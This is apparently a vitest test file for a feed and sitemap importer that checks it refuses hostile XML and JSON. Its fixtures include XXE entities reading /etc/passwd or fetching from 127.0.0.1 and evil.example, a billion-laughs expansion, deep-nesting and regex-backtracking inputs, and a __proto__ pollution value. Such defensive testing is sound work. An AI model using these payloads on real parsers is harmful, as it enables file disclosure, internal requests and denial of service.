import { describe, expect, it } from 'vitest';
import { readFeed } from '../../../../src/import/feed/feed.js';
import { readSitemap } from '../../../../src/import/feed/sitemap.js';

const bytesOf = (text: string | Uint8Array) => ({
  source: 'https://site.example/x',
  bytes: typeof text === 'string' ? new TextEncoder().encode(text) : text,
});

const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

const DOCTYPES: readonly (readonly [string, string])[] = [
  ['a file', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
  ['an address', '<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:9/secret">]>'],
  ['an address of a public list', '<!DOCTYPE x [<!ENTITY e PUBLIC "a" "http://127.0.0.1:9/secret">]>'],
  ['declarations from elsewhere', '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/a.dtd"> %e;]>'],
  ['billion laughs', `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}<!ENTITY e "&l9;">]>`],
  ['one long entity, often', `<!DOCTYPE x [<!ENTITY e "${'a'.repeat(100_000)}">]>`],
  ['one in lower case', '<!DOCTYPE x [<!entity e "a">]>'],
  ['one after a comment', '<!DOCTYPE x [<!-- ]> --><!ENTITY e SYSTEM "file:///etc/passwd">]>'],
];

const feedWith = (doctype: string): string =>
  `<?xml version="1.0"?>${doctype}<rss version="2.0"><channel><title>&e;</title><item><link>/a</link></item></channel></rss>`;
const sitemapWith = (doctype: string): string =>
  `<?xml version="1.0"?>${doctype}<urlset><url><loc>https://site.example/&e;</loc></url></urlset>`;

describe('XML from strangers', () => {
  it.each(DOCTYPES)('is refused when it declares an entity: %s', async (_name, doctype) => {
    expect(readFeed(bytesOf(feedWith(doctype)))).toMatchObject({ kind: 'refused', code: 'damaged' });
    expect(await readSitemap(bytesOf(sitemapWith(doctype)))).toMatchObject({ kind: 'refused', code: 'damaged' });
  });

  it('is refused when the document type comes late, or twice', () => {
    const doctype = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>';
    const texts = [
      `<rss version="2.0">${doctype}<channel><title>&e;</title></channel></rss>`,
      `<!DOCTYPE rss>${doctype}<rss version="2.0"><channel><title>&e;</title></channel></rss>`,
    ];
    for (const text of texts) expect(readFeed(bytesOf(text))).toMatchObject({ code: 'damaged' });
  });

  it('is refused when it is nested deeply', async () => {
    expect(readFeed(bytesOf(`<rss version="2.0">${'<a>'.repeat(1_000_000)}`))).toMatchObject({ code: 'damaged' });
    expect(await readSitemap(bytesOf(`<urlset>${'<a>'.repeat(1_000_000)}`))).toMatchObject({ code: 'damaged' });
  });

  it('is refused when an element has attributes without end', () => {
    const attributes = Array.from({ length: 100_000 }, (_, i) => `a${i}="b"`).join(' ');
    expect(readFeed(bytesOf(`<rss ${attributes}><channel/></rss>`))).toMatchObject({ code: 'damaged' });
  });

  const item = (inner: string): string =>
    `<rss version="2.0"><channel><title>T</title><item><link>/a</link>${inner}</item>`;
  const MANY = 100_000;
  it.each([
    ['a person that is an address that never ends', item(`<author>http://${'a.'.repeat(MANY)} x</author>`)],
    ['a person of brackets', item(`<author>${'('.repeat(MANY)}</author>`)],
    ['a person of signs', item(`<author>${'x - '.repeat(MANY)} x@y.example</author>`)],
    ['a date of days', item(`<pubDate>${'Mon, '.repeat(MANY)}</pubDate>`)],
    ['a date with room in it', item(`<pubDate>2019${' '.repeat(MANY)}x</pubDate>`)],
    ['a title of ampersands', item(`<title>${'&'.repeat(MANY)}</title>`)],
    ['a title of brackets', item(`<title><![CDATA[${'<a'.repeat(MANY)}]]></title>`)],
    ['CDATA in CDATA', item(`<description>${'<![CDATA['.repeat(MANY)}`)],
    ['comments', item('<!--'.repeat(MANY))],
    ['one comment without an end', item(`<!--${'-'.repeat(MANY)}`)],
    ['elements of an entry', item('<a/>'.repeat(MANY))],
    ['links of an entry', item('<link>/a</link>'.repeat(MANY))],
    ['quotes in a tag', `<rss version="2.0" x='${'="'.repeat(MANY)}'><channel/></rss>`],
    ['room in a tag', `<rss version="2.0"${' '.repeat(MANY)}><channel/></rss>`],
    ['one long name', `<rss version="2.0"><channel><${'a'.repeat(MANY)}/></channel></rss>`],
    ['brackets', `<rss version="2.0">${'<'.repeat(MANY)}`],
    [
      'a list in a list of JSON',
      `{"version":"https://jsonfeed.org/version/1.1","items":${'['.repeat(MANY)}${']'.repeat(MANY)}}`,
    ],
    [
      'JSON that changes what objects are',
      '{"version":"https://jsonfeed.org/version/1.1","items":[{"__proto__":{"url":"/a"}}]}',
    ],
  ])('ends soon, whatever it is made of: %s', async (_name, text) => {
    expect(['feed', 'refused']).toContain(readFeed(bytesOf(text)).kind);
    expect(['sitemap', 'refused']).toContain((await readSitemap(bytesOf(text))).kind);
    expect({}).not.toHaveProperty('url');
  });

  it('is read up to 5,000 entries of a feed', () => {
    const items = Array.from({ length: 20_000 }, (_, i) => `<item><link>/${i}</link></item>`).join('');
    const feed = readFeed({
      ...bytesOf(`<rss version="2.0"><channel>${items}</channel></rss>`),
      url: 'https://site.example/',
    });
    expect(feed).toMatchObject({ kind: 'feed', leftOut: 15_000 });
  });

  it('is refused over ten megabytes of a feed', () => {
    const text = `<rss version="2.0"><channel><title>${'a'.repeat(11 * 1024 ** 2)}</title></channel></rss>`;
    expect(readFeed(bytesOf(text))).toMatchObject({ code: 'too-large' });
  });
});
